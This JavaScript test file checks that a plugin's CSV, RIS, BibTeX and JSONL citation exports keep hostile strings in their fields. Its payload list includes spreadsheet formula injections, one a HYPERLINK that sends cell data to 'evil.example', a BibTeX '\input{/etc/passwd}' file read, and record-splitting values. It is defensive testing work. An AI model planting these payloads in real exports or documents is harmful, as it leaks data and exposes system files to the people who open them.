// What a title, a name or a section may hold does not get out of its place in an export.

import assert from "node:assert/strict";
import test from "node:test";

import { bibtex, csv, jsonl, ris } from "../../plugins/archive_search/browser/exports.js";

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＠x", '"=1+1',
  "a,b;c\td", 'x","y', "a\r\nb", "x\nER  - \nTY  - BOOK\nTI  - y", "x\rER  - ", "x\u2028ER  - ", "x\u0085ER  - ", "x\u000bER  - ", "x\u001eER  - ",
  "x}, url = {https://evil.example/", "}\n@book{y, title = {z}}", "{", "}", "\\", "%", "\\input{/etc/passwd}", "$x$", "__proto__", '{"a": 1}', "</script>",
];

/** @param {string} text */
const reference = (text) => ({ url: "https://example.org/a/zz/1.html", title: text, date: "2012-03-05", section: text, publisher: text, authors: [text, text] });

/** @param {string} text RFC 4180 */
function cells(text) {
  const found = [[""]];
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const row = found[found.length - 1];
    if (quoted ? text[at] !== '"' : !/[",\r]/.test(text[at])) row[row.length - 1] += text[at];
    else if (quoted && text[at + 1] === '"') row[row.length - 1] += text[(at += 1)];
    else if (text[at] === '"') quoted = !quoted;
    else if (text[at] === ",") row.push("");
    else if (text[(at += 1)] === "\n") found.push([""]);
  }
  return found.slice(0, -1);
}

/** @param {string} text how deep braces are at its end, escaped ones not counted */
const depth = (text) => [...text.replace(/\\[{}\\]/g, "")].reduce((sum, sign) => sum + (sign === "{" ? 1 : sign === "}" ? -1 : 0), 0);

for (const text of HOSTILE) {
  test(`${JSON.stringify(text)} stays in its place`, () => {
    const [head, row, ...others] = cells(csv([reference(text)]).slice(1));
    assert.deepEqual([head.length, row.length, others.length], [6, 6, 0]);
    for (const cell of row) assert.doesNotMatch(cell, /^(?:\s*[=+\-@＝＋－＠]|[\t\r])/);
    assert.ok([text, `'${text}`].includes(row[0]));
    const lines = ris([reference(text)]).split(/[\r\n\u2028\u2029\u0085\v\f\x1c-\x1e]+/).filter(Boolean);
    assert.deepEqual(lines.map((one) => one.slice(0, 6)), ["TY", "TI", "AU", "AU", "T2", "KW", "PY", "DA", "LA", "UR", "ER"].map((tag) => `${tag}  - `));
    const entry = bibtex([reference(text)]);
    assert.equal(entry.match(/^@/gm)?.length, 1);
    assert.ok(entry.split("\n").slice(1, -2).every((one) => depth(one) === 0 && /^ {2}[a-z]+ = \{.*\},$/.test(one)), entry);
    assert.deepEqual(JSON.parse(jsonl([reference(text)])), reference(text));
    assert.equal(jsonl([reference(text)]).split("\n").length, 2);
  });
}
